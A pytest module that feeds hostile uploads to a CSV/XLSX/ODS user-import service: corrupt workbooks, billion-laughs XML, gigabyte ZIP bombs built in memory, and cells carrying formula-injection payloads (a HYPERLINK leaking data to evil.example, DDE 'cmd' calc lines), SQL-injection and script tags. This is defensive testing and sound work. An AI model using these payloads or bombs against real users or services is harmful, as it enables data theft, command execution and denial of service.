"""Hostile files through the whole intake (parse_file -> validate_file), as an attacker would send them.

One table (`HOSTILE`) of files made here, each with the FileProblem code it must end in or a
check of what must be read; every file of the shared corpus through the same path; formula-like
cells through to the reports we write; and the bombs in a fresh subprocess each, measuring the
peak resident memory of the web process (and of the calamine child) while it refuses them.

Nothing big is committed: the bombs (gigabytes when inflated) are built in memory at test time
from one 64 MB deflate block repeated (a full flush resets the compressor, so the block's bytes
repeat exactly).
"""

from __future__ import annotations

import csv
import io
import json
import random
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from bulk_upload_app.errors import FILE_LEVEL, ErrorCode, FileProblem
from bulk_upload_app.files.intake import ParsedFile, parse_file, validate_file
from bulk_upload_app.files.reading import ReadLimits
from bulk_upload_app.files.schema import COLUMN_NAMES
from bulk_upload_app.uploads.report import report_csv, report_xlsx
from tests.support.factories import (
    XLSX_CONTENT_TYPES,
    XLSX_RELS,
    XLSX_WORKBOOK,
    XLSX_WORKBOOK_RELS,
    istr,
    make_zip,
    ods,
    ods_row,
    patched_xlsx,
    raw_xlsx,
    xlsx,
)
from tests.support.paths import CORPUS, REPO

HEADER = ",".join(COLUMN_NAMES)
GOOD_ROW = "Ann,Lee,ann@example.com,+44,07911123456"
USERS = [
    list(COLUMN_NAMES),
    ["Ann", "Lee", "ann@example.com", "+44", "07911123456"],
    ["Bo", "Ek", "bo@example.com", "+46", ""],
]
# The web process may use at most this much (peak RSS, the interpreter and its libraries included)
# to refuse any bomb below; the calamine child is capped separately by its own RLIMIT_AS.
RSS_BOUND_MB = 600


def csv_text(*lines: str, end: str = "\n") -> bytes:
    return end.join(lines).encode() + end.encode()


def intake(data: bytes, name: str, limits: ReadLimits | None = None):
    """parse_file + validate_file: the ParsedFile and its Validation, or the FileProblem."""
    try:
        parsed = parse_file(data, name, limits)
    except FileProblem as problem:
        return problem
    return parsed, validate_file(parsed)


def assert_clear_problem(problem: FileProblem) -> None:
    assert problem.code in FILE_LEVEL
    assert problem.message and "{" not in problem.message and "Traceback" not in problem.message
    assert problem.message.endswith(".")


# ---------------------------------------------------------------------------------------------
# builders of hostile files
# ---------------------------------------------------------------------------------------------


def garbage(n: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(n)


def truncated_xlsx() -> bytes:
    book = xlsx(USERS)
    return book[: len(book) // 2]


def flipped_xlsx() -> bytes:
    book = bytearray(xlsx(USERS))
    for i in range(len(book) // 3, len(book) // 3 + 64):  # corrupt the middle of the deflate data
        book[i] ^= 0x5A
    return bytes(book)


def local_headers_gone_xlsx() -> bytes:
    book = xlsx(USERS)
    return book.replace(b"PK\x03\x04", b"PK\x00\x00")


def not_xml_sheet() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": XLSX_CONTENT_TYPES,
            "_rels/.rels": XLSX_RELS,
            "xl/workbook.xml": XLSX_WORKBOOK,
            "xl/_rels/workbook.xml.rels": XLSX_WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row",
        }
    )


def many_entries(n: int, prefix: str = "docProps/junk") -> bytes:
    """A real workbook with n extra tiny parts (not sheets)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(USERS)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            zf.writestr(info.filename, source.read(info))
        for i in range(n):
            zf.writestr(f"{prefix}{i}.xml", b"<x/>")
    return out.getvalue()


def ten_mb_cell_csv() -> bytes:
    return csv_text(HEADER, "Ann,Lee,ann@example.com,+44," + "7" * 10_000_000)


def ten_mb_cell_xlsx() -> bytes:
    # random letters: compresses ~1.7-fold, so no ratio guard stops it; the cell limit must
    big = "".join(random.Random(3).choices("abcdefghijklmnopqrstuvwxyz", k=10_000_000))
    return raw_xlsx(
        b'<row r="1">'
        + b"".join(istr(f"{c}1", t) for c, t in zip("ABCDE", COLUMN_NAMES))
        + b'</row><row r="2">'
        + istr("A2", "Ann")
        + istr("B2", big)
        + b"</row>"
    )


def rows_csv(n: int) -> bytes:
    return (HEADER + "\n" + "".join(f"U{i},L,u{i}@example.com,+44,\n" for i in range(n))).encode()


def wide_csv(cols: int) -> bytes:
    titles = list(COLUMN_NAMES) + [f"extra{i}" for i in range(cols - len(COLUMN_NAMES))]
    return csv_text(",".join(titles), ",".join(["x"] * cols))


def wide_xlsx(cols: int) -> bytes:
    titles = list(COLUMN_NAMES) + [f"extra{i}" for i in range(cols - len(COLUMN_NAMES))]
    return xlsx([titles, ["x"] * cols])


# ---------------------------------------------------------------------------------------------
# what must come of each
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    id: str
    build: Callable[[], bytes]
    name: str
    code: ErrorCode | None = None  # the FileProblem expected, or None for a read
    check: Callable | None = None  # check(parsed, validation) for a read; check(problem) for a refusal
    limits: ReadLimits | None = None


def rows_are(*expected: dict) -> Callable:
    def check(parsed: ParsedFile, validation) -> None:
        got = parsed.frame.select(COLUMN_NAMES).rows(named=True)
        assert len(got) == len(expected), got
        for row, want in zip(got, expected):
            assert {k: row[k] for k in want} == want, row

    return check


def reason_has(fragment: str) -> Callable:
    def check(problem: FileProblem) -> None:
        assert fragment in problem.details.get("reason", problem.message), problem.message

    return check


def formula_cells_kept(parsed: ParsedFile, validation) -> None:
    got = parsed.frame["firstname"].to_list()
    assert got == FORMULA_VALUES_READ, got


def errors_coded(*codes: ErrorCode) -> Callable:
    def check(parsed: ParsedFile, validation) -> None:
        assert {e.code for e in validation.errors} == set(codes), validation.errors
        assert all(e.message for e in validation.errors)

    return check


FORMULA_VALUES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# Leading tab and CR are whitespace: values are trimmed, so what remains is the formula-like text.
FORMULA_VALUES_READ = [v.strip() for v in FORMULA_VALUES]


def formula_csv() -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMN_NAMES)
    writer.writerows([v, "Lee", f"f{i}@example.com", "+44", ""] for i, v in enumerate(FORMULA_VALUES))
    return out.getvalue().encode()


def formula_xlsx() -> bytes:
    return xlsx(
        [list(COLUMN_NAMES)] + [[v, "Lee", f"f{i}@example.com", "+44", ""] for i, v in enumerate(FORMULA_VALUES)]
    )


HOSTILE: list[Hostile] = [
    # not text at all
    Hostile("binary-garbage-named-csv", lambda: garbage(20_000), "users.csv", ErrorCode.UNSUPPORTED_FILE),
    Hostile("binary-garbage-named-xlsx", lambda: garbage(20_000, 8), "users.xlsx", ErrorCode.UNSUPPORTED_FILE),
    Hostile(
        "png-named-csv",
        lambda: b"\x89PNG\r\n\x1a\n" + garbage(5000),
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
        reason_has("image"),
    ),
    Hostile(
        "elf-executable-named-csv",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(9) + garbage(4000),
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
    ),
    Hostile(
        "zip-of-garbage",
        lambda: make_zip({"payload.bin": garbage(4000)}),
        "users.xlsx",
        ErrorCode.UNSUPPORTED_FILE,
        reason_has("ZIP archive"),
    ),
    Hostile(
        "ole-header-then-garbage",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(8000),
        "users.xls",
        ErrorCode.UNSUPPORTED_FILE,
    ),
    Hostile(
        "html-named-csv",
        lambda: b"<html><body><table><tr><td>email</td></tr></table></body></html>",
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
        reason_has("web page"),
    ),
    # broken workbooks
    Hostile("truncated-xlsx", truncated_xlsx, "users.xlsx", ErrorCode.UNSUPPORTED_FILE),
    Hostile("corrupt-deflate-xlsx", flipped_xlsx, "users.xlsx", ErrorCode.UNSUPPORTED_FILE),
    Hostile("xlsx-without-local-headers", local_headers_gone_xlsx, "users.xlsx", ErrorCode.UNSUPPORTED_FILE),
    Hostile("xlsx-sheet-not-xml", not_xml_sheet, "users.xlsx", ErrorCode.UNSUPPORTED_FILE),
    Hostile(
        "xlsx-zero-bytes-after-magic", lambda: b"PK\x03\x04" + bytes(100), "users.xlsx", ErrorCode.UNSUPPORTED_FILE
    ),
    Hostile(
        "xlsx-billion-laughs",
        lambda: raw_xlsx(
            b"<row><c t='inlineStr'><is><t>&e;</t></is></c></row>",
            prolog=b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10) for i in range(4))
            + b"]>",
        ),
        "users.xlsx",
        None,
        None,
    ),  # accepted or refused: see test below (never expanded)
    Hostile(
        "xlsx-sparse-grid-bomb",
        lambda: raw_xlsx(istr("A1", "email") + b'<c r="XFD1048576"><v>1</v></c>'),
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
    ),
    Hostile(
        "xlsx-shared-strings-count-bomb",
        lambda: patched_xlsx("xl/sharedStrings.xml", b'uniqueCount="', b'uniqueCount="4000000000" x="'),
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
    ),
    Hostile(
        "ods-repeat-bomb",
        lambda: ods(
            '<table:table-row table:number-rows-repeated="999999999">'
            '<table:table-cell table:number-columns-repeated="999999999" office:value-type="string">'
            "<text:p>X</text:p></table:table-cell></table:table-row>"
        ),
        "users.ods",
        ErrorCode.FILE_TOO_LARGE,
    ),
    Hostile(
        "xlsx-5000-zip-entries",
        lambda: many_entries(5000),
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("internal files; the limit is 2,000"),
    ),
    Hostile(
        "xlsx-2000-zip-entries-at-limit",
        lambda: many_entries(1990),
        "users.xlsx",
        None,
        rows_are({"email": "ann@example.com"}, {"email": "bo@example.com"}),
    ),
    Hostile(
        "xlsx-3000-sheet-like-entries",
        lambda: many_entries(3000, "xl/worksheets/junk"),
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
    ),
    # limits
    Hostile(
        "rows-over-limit-csv",
        lambda: rows_csv(101),
        "users.csv",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("101 rows; the limit is 100"),
        ReadLimits(max_rows=100),
    ),
    Hostile("rows-at-limit-csv", lambda: rows_csv(100), "users.csv", None, None, ReadLimits(max_rows=100)),
    Hostile(
        "rows-over-limit-xlsx",
        lambda: xlsx([list(COLUMN_NAMES)] + [["A", "B", f"u{i}@example.com", "+44", ""] for i in range(101)]),
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        None,
        ReadLimits(max_rows=100),
    ),
    Hostile(
        "columns-over-limit-csv",
        lambda: wide_csv(201),
        "users.csv",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("201 columns; the limit is 200"),
    ),
    Hostile("columns-over-limit-xlsx", lambda: wide_xlsx(201), "users.xlsx", ErrorCode.FILE_TOO_LARGE),
    Hostile("columns-at-limit-csv", lambda: wide_csv(200), "users.csv", None, None),
    Hostile(
        "bytes-over-limit",
        lambda: rows_csv(50),
        "users.csv",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("the limit is 1,000 bytes"),
        ReadLimits(max_bytes=1000),
    ),
    Hostile(
        "10MB-single-cell-csv",
        ten_mb_cell_csv,
        "users.csv",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("cell E2 has 10,000,000 characters"),
    ),
    Hostile(
        "10MB-single-cell-xlsx",
        ten_mb_cell_xlsx,
        "users.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("cell B2 has 10,000,000 characters"),
    ),
    Hostile(
        "10MB-unclosed-quote",
        lambda: csv_text(HEADER, 'Ann,"Lee,ann@example.com,+44,', *(["x" * 100] * 100_000)),
        "users.csv",
        ErrorCode.FILE_TOO_LARGE,
        reason_has("cell B2 has "),
    ),
    # text oddities
    Hostile(
        "nul-bytes-in-csv",
        lambda: csv_text(HEADER, "Ann,Le\0e,ann@example.com,+44,"),
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
        reason_has("NUL"),
    ),
    Hostile(
        "mixed-line-endings",
        lambda: (
            HEADER + "\r\nAnn,Lee,ann@example.com,+44,\nBo,Ek,bo@example.com,+46,\rCy,Oz,cy@example.com,+1,\r\n"
        ).encode(),
        "users.csv",
        None,
        rows_are({"firstname": "Ann"}, {"firstname": "Bo"}, {"firstname": "Cy"}),
    ),
    Hostile(
        "unbalanced-quote-short",
        lambda: csv_text(HEADER, 'Ann,"Lee,ann@example.com,+44,', "Bo,Ek,bo@example.com,+46,"),
        "users.csv",
        None,
        errors_coded(ErrorCode.INVALID_CHARACTERS, ErrorCode.REQUIRED_VALUE_MISSING),
    ),
    Hostile(
        "stray-quote-mid-field",
        lambda: csv_text(HEADER, 'An"n,Lee,ann@example.com,+44,'),
        "users.csv",
        None,
        rows_are({"firstname": 'An"n', "email": "ann@example.com"}),
    ),
    Hostile(
        "duplicate-headers",
        lambda: csv_text("firstname,lastname,email,email,countryprefix", "A,B,a@example.com,b@example.com,+44"),
        "users.csv",
        ErrorCode.DUPLICATE_COLUMN,
    ),
    Hostile(
        "duplicate-headers-by-alias",
        lambda: csv_text("firstname,lastname,E-mail,email,countryprefix", "A,B,a@x.com,b@x.com,+44"),
        "users.csv",
        ErrorCode.DUPLICATE_COLUMN,
    ),
    Hostile(
        "empty-headers-between",
        lambda: csv_text("firstname,,lastname,,email,countryprefix,phone", "Ann,x,Lee,y,ann@example.com,+44,"),
        "users.csv",
        None,
        rows_are({"firstname": "Ann", "lastname": "Lee", "email": "ann@example.com"}),
    ),
    Hostile(
        "all-headers-empty",
        lambda: csv_text(",,,,", " , ,\t, ,", "Ann,Lee,ann@example.com,+44,"),
        "users.csv",
        ErrorCode.NO_DATA_ROWS,
    ),  # blank title rows are skipped: the user row becomes the titles
    Hostile(
        "titles-not-the-template",
        lambda: csv_text("a,b,c,d", "Ann,Lee,ann@example.com,+44"),
        "users.csv",
        ErrorCode.MISSING_COLUMN,
    ),
    Hostile("header-only-csv", lambda: csv_text(HEADER), "users.csv", ErrorCode.NO_DATA_ROWS),
    Hostile("header-only-xlsx", lambda: xlsx([list(COLUMN_NAMES)]), "users.xlsx", ErrorCode.NO_DATA_ROWS),
    Hostile("empty-file", lambda: b"", "users.csv", ErrorCode.EMPTY_FILE),
    Hostile("only-newlines-and-delimiters", lambda: b"\r\n,,,\n\n , \r\n\t\n", "users.csv", ErrorCode.EMPTY_FILE),
    Hostile("only-bom", lambda: b"\xef\xbb\xbf", "users.csv", ErrorCode.EMPTY_FILE),
    Hostile(
        "utf16-le-without-bom",
        lambda: csv_text(HEADER, "Zoë,Ünal,zoe@example.com,+49,").decode().encode("utf-16-le"),
        "users.csv",
        None,
        rows_are({"firstname": "Zoë", "lastname": "Ünal"}),
    ),
    Hostile(
        "utf16-be-without-bom",
        lambda: csv_text(HEADER, "Zoë,Ünal,zoe@example.com,+49,").decode().encode("utf-16-be"),
        "users.csv",
        None,
        rows_are({"firstname": "Zoë", "lastname": "Ünal"}),
    ),
    Hostile(
        "utf16-odd-length",
        lambda: csv_text(HEADER, GOOD_ROW).decode().encode("utf-16-le") + b"x",
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
    ),
    Hostile(
        "utf32", lambda: csv_text(HEADER, GOOD_ROW).decode().encode("utf-32"), "users.csv", ErrorCode.UNSUPPORTED_FILE
    ),
    Hostile(
        "invalid-utf8-after-bom",
        lambda: b"\xef\xbb\xbf" + HEADER.encode() + b"\nAnn,L\xff\xfee,ann@example.com,+44,\n",
        "users.csv",
        ErrorCode.UNSUPPORTED_FILE,
        reason_has("isn't valid UTF-8"),
    ),
    Hostile(
        "control-characters-in-names",
        lambda: csv_text(HEADER, "An\x1bn,Le\x07e,ann@example.com,+44,"),
        "users.csv",
        None,
        errors_coded(ErrorCode.INVALID_CHARACTERS),
    ),
    Hostile(
        "bidi-and-zero-width-in-email",
        lambda: csv_text(HEADER, "Ann,Lee,ann\u202e@example.com,+44,", "Bo,Ek,b\u200bo@example.com,+46,"),
        "users.csv",
        None,
        errors_coded(ErrorCode.INVALID_EMAIL),
    ),
    Hostile(
        "sql-and-html-in-cells",
        lambda: csv_text(HEADER, "Robert'); DROP TABLE app_user;--,<script>alert(1)</script>,bobby@example.com,+44,"),
        "users.csv",
        None,
        rows_are({"firstname": "Robert'); DROP TABLE app_user;--", "lastname": "<script>alert(1)</script>"}),
    ),
    # formula-looking cells: kept as typed text
    Hostile("formula-cells-csv", formula_csv, "users.csv", None, formula_cells_kept),
    Hostile("formula-cells-xlsx", formula_xlsx, "users.xlsx", None, formula_cells_kept),
]


@pytest.mark.parametrize("case", HOSTILE, ids=[c.id for c in HOSTILE])
def test_hostile_file_ends_in_a_read_or_a_coded_problem(case: Hostile, caplog):
    data = case.build()
    with caplog.at_level("ERROR"):
        result = intake(data, case.name, case.limits)
    assert not [r for r in caplog.records if r.exc_info], "reached a last-resort exception handler"
    if isinstance(result, FileProblem):
        assert_clear_problem(result)
        assert case.code is not None or case.id == "xlsx-billion-laughs", (
            f"refused with {result.code}: {result.message}"
        )
        if case.code is not None:
            assert result.code == case.code, result.message
            if case.check:
                case.check(result)
        return
    assert case.code is None, f"expected {case.code}, read {result[0].frame.height} rows"
    parsed, validation = result
    assert parsed.frame.height >= 1 and validation.rows == parsed.frame.height
    for error in validation.errors:
        assert error.code not in FILE_LEVEL and error.message
    if case.check:
        case.check(parsed, validation)


def test_billion_laughs_is_never_expanded():
    """The entity is refused, or (calamine ignores DTDs) left unexpanded: never 10^4 a's in a cell."""
    case = next(c for c in HOSTILE if c.id == "xlsx-billion-laughs")
    result = intake(case.build(), case.name)
    if isinstance(result, FileProblem):
        assert result.code == ErrorCode.UNSUPPORTED_FILE
    else:
        assert not any("aaaaaaaaaaa" in v for row in result[0].frame.rows() for v in map(str, row))


# ---------------------------------------------------------------------------------------------
# every corpus file through the intake
# ---------------------------------------------------------------------------------------------


def corpus_files() -> list[str]:
    if not CORPUS.is_dir():
        return []
    return sorted(
        p.relative_to(CORPUS).as_posix()
        for p in CORPUS.rglob("*")
        if p.is_file() and p.suffix.lower() not in (".md", ".json") and p.name != "LICENSES.md"
    )


def test_corpus_is_there():
    assert CORPUS.is_dir(), f"corpus not found at {CORPUS}"
    assert len(corpus_files()) >= 90


@pytest.mark.parametrize("rel", corpus_files())
def test_corpus_file_through_intake(rel: str, caplog):
    """The corpus holds no users files: each must end in a clear, coded problem or coded row errors."""
    data = (CORPUS / rel).read_bytes()
    with caplog.at_level("ERROR"):
        result = intake(data, Path(rel).name)
    assert not [r for r in caplog.records if r.exc_info], "reached a last-resort exception handler"
    if isinstance(result, FileProblem):
        assert_clear_problem(result)
        return
    parsed, validation = result
    assert validation.rows == parsed.frame.height >= 1
    errors = validation.errors_by_row()
    for row in validation.frame.iter_rows(named=True):
        assert row["is_valid"] == (row["row"] not in errors)
    assert all(e.message and e.code not in FILE_LEVEL for e in validation.errors)


# ---------------------------------------------------------------------------------------------
# formula-like cells never become formulas in a report we write
# ---------------------------------------------------------------------------------------------


def failed_from(validation) -> list[dict]:
    by_row = validation.errors_by_row()
    out = []
    for row in validation.frame.iter_rows(named=True):
        for e in by_row.get(row["row"], []) or [None]:
            out.append(
                {
                    "row": row["row"],
                    **{c: row[c] for c in COLUMN_NAMES},
                    "code": e.code.value if e else "X",
                    "message": e.message if e else "x",
                }
            )
    return out


@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_formula_cells_are_text_in_both_reports_and_round_trip(source, tmp_path):
    data = formula_csv() if source == "csv" else formula_xlsx()
    _parsed, validation = intake(data, f"users.{source}")
    failed = failed_from(validation)
    # also a formula in an error message's quoted value (INVALID_EMAIL echoes the value)
    failed.append(
        {
            "row": 99,
            "firstname": "x",
            "lastname": "y",
            "email": "=cmd|' /C calc'!A0",
            "countryprefix": "+44",
            "phone": "",
            "code": "INVALID_EMAIL",
            "message": "=cmd|' /C calc'!A0 is not valid",
        }
    )

    report = report_csv(failed).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report)))
    for line in rows[1:]:
        for value in line:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), line
    firsts = [line[0] for line in rows[1:-1]]
    assert firsts == ["'" + v for v in FORMULA_VALUES_READ]
    assert rows[-1][2] == "'=cmd|' /C calc'!A0" and rows[-1][-1].startswith("'=")

    path = tmp_path / "report.xlsx"
    path.write_bytes(report_xlsx(failed))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert [sheet.cell(r, 1).value for r in range(2, 2 + len(FORMULA_VALUES))] == FORMULA_VALUES_READ
    with zipfile.ZipFile(path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")

    # The CSV report, uploaded again, gives back exactly the text typed.
    again, _ = intake(report_csv(failed), "report.csv")
    assert again.frame["firstname"].to_list()[: len(FORMULA_VALUES)] == FORMULA_VALUES_READ


# ---------------------------------------------------------------------------------------------
# bombs: refused before inflating, in bounded memory (measured in a fresh process each)
# ---------------------------------------------------------------------------------------------

_BLOCK = 64 * 1024 * 1024


def _deflate_repeated(pattern: bytes, copies: int) -> tuple[bytes, int, int]:
    """(raw deflate stream, uncompressed size, crc32) of `copies` x 64 MB of `pattern` repeated."""
    block = (pattern * (_BLOCK // len(pattern) + 1))[:_BLOCK]
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    stream = piece * copies + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    return stream, _BLOCK * copies, crc


def _zip_with_raw_entry(
    entries: dict[str, bytes], name: str, stream: bytes, size: int, crc: int, declared: int | None = None
) -> bytes:
    """A zip of `entries` (deflated normally) plus `name` holding an already-deflated stream."""
    out = io.BytesIO()
    central = []

    def add(fname: str, comp: bytes, usize: int, ucrc: int) -> None:
        offset = out.tell()
        fn = fname.encode()
        header = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, ucrc, len(comp), usize, len(fn), 0)
        out.write(header + fn + comp)
        central.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                ucrc,
                len(comp),
                usize,
                len(fn),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + fn
        )

    for fname, data in entries.items():
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        add(fname, c.compress(data) + c.flush(), len(data), zlib.crc32(data))
    add(name, stream, size if declared is None else declared, crc)
    cd_start = out.tell()
    for entry in central:
        out.write(entry)
    cd_size = out.tell() - cd_start
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_start, 0))
    return out.getvalue()


_XLSX_PARTS = {
    "[Content_Types].xml": XLSX_CONTENT_TYPES,
    "_rels/.rels": XLSX_RELS,
    "xl/workbook.xml": XLSX_WORKBOOK,
    "xl/_rels/workbook.xml.rels": XLSX_WORKBOOK_RELS,
}
_ROW = b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>'


def xlsx_bomb(copies: int, *, lie: bool) -> bytes:
    stream, size, crc = _deflate_repeated(_ROW, copies)
    sheet = "xl/worksheets/sheet1.xml"
    return _zip_with_raw_entry(_XLSX_PARTS, sheet, stream, size, crc, declared=4096 if lie else None)


def ods_bomb(copies: int, *, lie: bool) -> bytes:
    stream, size, crc = _deflate_repeated(b"<!-- padding -->", copies)
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    )
    return _zip_with_raw_entry(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": manifest},
        "content.xml",
        stream,
        size,
        crc,
        declared=4096 if lie else None,
    )


_MEASURE = textwrap.dedent(
    """
    import json, resource, sys, time

    def hwm_mb():  # this process's own peak RSS (ru_maxrss would carry pytest's peak over the exec)
        for line in open("/proc/self/status"):
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    from bulk_upload_app.errors import FileProblem
    from bulk_upload_app.files.intake import parse_file
    data = open(sys.argv[1], "rb").read()
    base = hwm_mb()
    started = time.monotonic()
    try:
        parse_file(data, sys.argv[2])
        out = {"code": None}
    except FileProblem as exc:
        out = {"code": exc.code.value, "message": exc.message}
    out["seconds"] = time.monotonic() - started
    out["rss_before_mb"] = base
    out["rss_peak_mb"] = hwm_mb()
    out["child_peak_mb"] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print(json.dumps(out))
    """
)

BOMBS = {
    # name: (builder, file name, expected code, inflated size in bytes)
    "xlsx-sheet-3.75GB-honest-header": (
        lambda: xlsx_bomb(60, lie=False),
        "bomb.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        60 * _BLOCK,
    ),
    "xlsx-sheet-3.75GB-header-says-4KB": (
        lambda: xlsx_bomb(60, lie=True),
        "bomb.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        60 * _BLOCK,
    ),
    "ods-content-3.75GB-header-says-4KB": (
        lambda: ods_bomb(60, lie=True),
        "bomb.ods",
        ErrorCode.FILE_TOO_LARGE,
        60 * _BLOCK,
    ),
    "xlsx-sheet-448MB-honest-header-under-total": (
        lambda: xlsx_bomb(7, lie=False),
        "bomb.xlsx",
        ErrorCode.FILE_TOO_LARGE,
        7 * _BLOCK,
    ),
    "xlsx-70000-entries": (lambda: many_entries(70_000), "many.xlsx", ErrorCode.FILE_TOO_LARGE, 0),
    "csv-1000001-rows": (lambda: rows_csv(1_000_001), "rows.csv", ErrorCode.FILE_TOO_LARGE, 0),
}


def _padded_stream(head: bytes, tail: bytes, megabytes: int) -> tuple[bytes, int, int]:
    """head + `megabytes` MB of XML comments that compress only ~100-fold + tail, deflated."""
    rng = random.Random(5)
    block = b"".join(b"<!-- %08x -->" % rng.getrandbits(32) + b" " * 600 for _ in range((1 << 20) // 616 + 1))[
        : 1 << 20
    ]
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    piece = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    last = comp.compress(tail) + comp.flush()
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return first + piece * megabytes + last, len(head) + megabytes * len(block) + len(tail), zlib.crc32(tail, crc)


def ods_padded(megabytes: int) -> bytes:
    """A real little ODS whose content.xml is padded with comments: under the 200-fold and
    512 MB guards, so it is inflated, scanned and parsed."""
    head = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="S">'
        + ods_row(*COLUMN_NAMES[:4])
        + ods_row("Ann", "Lee", "ann@example.com", "+44")
    ).encode()
    tail = b"</table:table></office:spreadsheet></office:body></office:document-content>"
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    )
    return _zip_with_raw_entry(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": manifest},
        "content.xml",
        *_padded_stream(head, tail, megabytes),
    )


def xlsx_padded(megabytes: int) -> bytes:
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
        + b'<row r="1">'
        + b"".join(istr(f"{c}1", t) for c, t in zip("ABCD", COLUMN_NAMES))
        + b"</row>"
        + b'<row r="2">'
        + istr("A2", "Ann")
        + istr("B2", "Lee")
        + istr("C2", "ann@example.com")
        + istr("D2", "+44")
        + b"</row>"
    )
    tail = b"</sheetData></worksheet>"
    return _zip_with_raw_entry(_XLSX_PARTS, "xl/worksheets/sheet1.xml", *_padded_stream(head, tail, megabytes))


# Under every guard: these must be READ (they hold one user), still within the memory bound.
BOMBS["xlsx-sheet-500MB-under-every-guard"] = (lambda: xlsx_padded(500), "padded.xlsx", None, 500 << 20)


# An .ods whose content.xml inflates to 500 MB (100-fold: under the zip guards) once peaked at
# 1,070 MB: the ODS checks hold the whole XML. The reader now caps ODS sheet data at 200 MB;
# one just under the cap is read within the bound.
BOMBS["ods-content-500MB-under-the-zip-guards"] = (
    lambda: ods_padded(500),
    "padded.ods",
    ErrorCode.FILE_TOO_LARGE,
    500 << 20,
)
BOMBS["ods-content-190MB-read"] = (lambda: ods_padded(190), "padded.ods", None, 190 << 20)

MEASURED: dict[str, dict] = {}


@pytest.mark.parametrize("name", list(BOMBS))
def test_bomb_refused_in_bounded_memory(name, tmp_path):
    build, file_name, code, inflated = BOMBS[name]
    data = build()
    path = tmp_path / file_name
